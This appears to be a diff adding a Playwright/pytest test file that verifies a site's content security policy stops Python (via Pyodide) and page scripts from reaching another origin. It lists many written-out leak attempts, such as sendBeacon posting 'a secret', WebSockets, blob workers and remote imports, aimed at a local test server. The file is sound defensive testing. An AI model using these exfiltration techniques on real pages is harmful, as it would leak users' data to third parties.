@@ -1,0 +1,171 @@
+"""Nothing leaves the browser: whatever Python or a page's script tries, another origin sees nothing of it.
+
+Every attempt is made twice: on a site with the policy in its page and nowhere else (no header helps), and on the
+same site without it, to show that the attempt would have arrived. Leaving by a link, and WebRTC, are beyond a
+policy: the privacy page says so.
+"""
+
+import threading
+from contextlib import contextmanager
+from functools import partial
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+import stub_site
+
+FROM_PYTHON = {
+    "fetch": "js.fetch(there + 'fetch')",
+    "request": "x = js.XMLHttpRequest.new(); x.open('GET', there + 'request', False); x.send()",
+    "pyodide": "from pyodide.http import open_url; open_url(there + 'pyodide')",
+    "async": "import asyncio; from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(there + 'async'))",
+    "socket": "js.WebSocket.new(there.replace('http', 'ws') + 'socket')",
+    "events": "js.EventSource.new(there + 'events')",
+    "import": "run_js('(where) => import(where)')(there + 'import')",
+    "cache": "run_js('(where) => caches.open(1).then((kept) => kept.add(where))')(there + 'cache')",
+    "package": "import pyodide_js; pyodide_js.loadPackage(there + 'package-1-py3-none-any.whl')",
+    "blob": "work(f'fetch(\"{there}blob\")', 'module')",
+    "nested": "work(f'import \"{there}nested\"', 'module')",
+    "classic": "work(f'importScripts(\"{there}classic\")', 'classic')",
+}
+# The worker hides `fetch` from Python once it has started; the policy has to hold without that, so it is undone.
+PYTHON = """
+import js
+from pyodide.code import run_js
+from pyodide.ffi import to_js
+js.self.fetch = js.WorkerGlobalScope.prototype.fetch
+there = {there!r}
+def options(kind):
+    return to_js({{"type": kind}}, dict_converter=js.Object.fromEntries)
+def work(text, kind):
+    blob = js.Blob.new(to_js([text]), options("text/javascript"))
+    return js.Worker.new(js.URL.createObjectURL(blob), options(kind))
+try:
+    {attempt}
+except Exception as fault:
+    answer = repr(fault)
+"""
+
+FROM_PAGE = {
+    "fetch": "fetch(there)",
+    "request": "const x = new XMLHttpRequest(); x.open('GET', there); x.send()",
+    "socket": "new WebSocket(there.replace('http', 'ws'))",
+    "events": "new EventSource(there)",
+    "beacon": "navigator.sendBeacon(there, 'a secret')",
+    "image": "new Image().src = there",
+    "script": "add('script', { src: there })",
+    "style": "add('link', { rel: 'stylesheet', href: there })",
+    "prefetch": "add('link', { rel: 'prefetch', href: there })",
+    "frame": "add('iframe', { src: there })",
+    "object": "add('object', { data: there })",
+    "sound": "add('audio', { src: there, preload: 'auto' })",
+    "font": "new FontFace('x', `url(${there})`).load()",
+    "import": "import(there)",
+    "blob": "work(`fetch('${there}')`)",
+}
+PAGE = """([there, attempt]) => {
+  const add = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
+  const work = (text) => new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
+  try { %s } catch (fault) { return `${fault}` }
+}"""
+
+
+@pytest.fixture(scope="session")
+def stub(tmp_path_factory):
+    return stub_site.build(tmp_path_factory.mktemp("promise"))
+
+
+class Plain(SimpleHTTPRequestHandler):
+    """A host that sends no header of ours."""
+
+    extensions_map = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript", ".wasm": "application/wasm"}  # noqa: RUF012 - the base's
+
+    def log_message(self, *_args):
+        pass
+
+
+@contextmanager
+def running(handler):
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/"
+    server.shutdown()
+
+
+@pytest.fixture
+def elsewhere():
+    """Another origin that notes what reaches it: (its address, the first part of each path that was asked for)."""
+    seen = set()
+
+    class Notes(BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.add(self.path.strip("/").split("-")[0])
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_POST = do_OPTIONS = do_GET  # noqa: N815 - http.server's names
+
+        def log_message(self, *_args):
+            pass
+
+    with running(Notes) as address:
+        yield address, seen
+
+
+@pytest.fixture(params=["with the policy", "without it"])
+def site(request, stub):
+    """The stub's site on a plain host: (its address, whether what is tried there arrives)."""
+    is_open = request.param == "without it"
+    folder = stub.parent / "open" if is_open else stub
+    with running(partial(Plain, directory=str(folder))) as address:
+        yield address, is_open
+
+
+def test_python_reaches_no_other_origin(site, elsewhere, page):
+    (address, is_open), (there, seen) = site, elsewhere
+    page.goto(address)
+    codes = [PYTHON.format(there=there, attempt=attempt) for attempt in FROM_PYTHON.values()]
+    page.evaluate(
+        """async (codes) => {
+          const { createPython } = await import("/assets/javascript/python.js");
+          const python = createPython({ base: "/" });
+          for (const code of codes) await python.call("run", { code });
+        }""",
+        codes,
+    )
+    page.wait_for_timeout(2000)
+    assert seen == (set(FROM_PYTHON) if is_open else set())
+
+
+def test_a_page_reaches_no_other_origin(site, elsewhere, page):
+    (address, is_open), (there, seen) = site, elsewhere
+    page.goto(address)
+    for name, attempt in FROM_PAGE.items():
+        page.evaluate(PAGE % attempt, [there + name, name])
+    page.wait_for_timeout(2000)
+    assert seen == (set(FROM_PAGE) if is_open else set())
+
+
+@pytest.mark.parametrize("site", ["with the policy"], indirect=True)
+def test_the_worker_refuses_to_run_when_it_is_not_started_from_a_blob(site, page):
+    """As then no policy would bind it."""
+    page.goto(site[0])
+    heard = page.evaluate(
+        """() => new Promise((resolve) => {
+          const worker = new Worker("/assets/javascript/python-worker.js", { type: "module" });
+          worker.onerror = (event) => resolve(event.message);
+          worker.onmessage = ({ data }) => resolve(data);
+          worker.postMessage({ boot: { base: "/", manifest: {} } });
+        })"""
+    )
+    assert "runs only when python.js starts it" in heard
+
+
+def test_a_form_sent_without_javascript_puts_nothing_into_an_address(site, new_page):
+    address, is_open = site
+    page = new_page(java_script_enabled=False)
+    page.goto(address)
+    page.get_by_role("button", name="Send").click(no_wait_after=True)
+    page.wait_for_timeout(1000)
+    assert ("secret" in page.url) == is_open
